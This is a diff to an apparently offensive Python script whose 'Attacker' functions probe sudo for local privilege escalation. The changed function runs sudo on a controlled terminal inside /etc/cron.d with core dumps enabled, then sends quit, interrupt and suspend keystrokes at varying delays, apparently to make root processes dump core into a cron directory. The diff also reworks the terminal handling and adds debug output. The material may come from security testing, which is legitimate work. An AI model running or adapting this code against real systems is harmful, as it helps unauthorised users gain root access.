@@ -9,7 +9,6 @@ import ctypes
 import fcntl
 import json
 import os
-import pty
 import resource
 import signal
 import socket
@@ -197,27 +196,26 @@ def variables_that_sudo_keeps(attacker: Attacker) -> None:
 @attempt
 def keys_of_a_terminal(attacker: Attacker) -> None:
     """Press the keys that end, stop and dump root's processes on a terminal, which asks nobody for permission, in a directory of root's."""
+    assert attacker.terminal is not None
+    ours, theirs = attacker.terminal
     for key in (b"\x1c", b"\x03", b"\x1a"):
         for wait_s in (0.02, 0.1, 0.3, 1.0):
-            ours, theirs = socket.socketpair()
-            pid, terminal = pty.fork()
+            channel, its = socket.socketpair()
+            pid = os.fork()
             if pid == 0:
-                os.dup2(theirs.fileno(), 0)
+                os.login_tty(theirs)
+                os.dup2(its.fileno(), 0)
                 os.chdir("/etc/cron.d" if os.path.isdir("/etc/cron.d") else "/etc")
                 core = resource.getrlimit(resource.RLIMIT_CORE)[1]
                 resource.setrlimit(resource.RLIMIT_CORE, (core, core))
                 os.execvp("sudo", ["sudo", "-n", *attacker.starter])
-            theirs.close()
+            its.close()
             time.sleep(wait_s)
-            with suppress(OSError):
-                os.write(terminal, key)
+            os.write(ours, key)
             time.sleep(0.2)
-            ours.close()
-            with suppress(OSError):
-                os.write(terminal, b"\x03")
-            os.close(terminal)
-            with suppress(OSError):
-                os.kill(pid, signal.SIGHUP)
+            print(repr(key), wait_s, Path(f"/proc/{pid}/stat").read_text().split()[2:8])
+            channel.close()
+            os.write(ours, b"\x03")
             _end(pid)
 
 
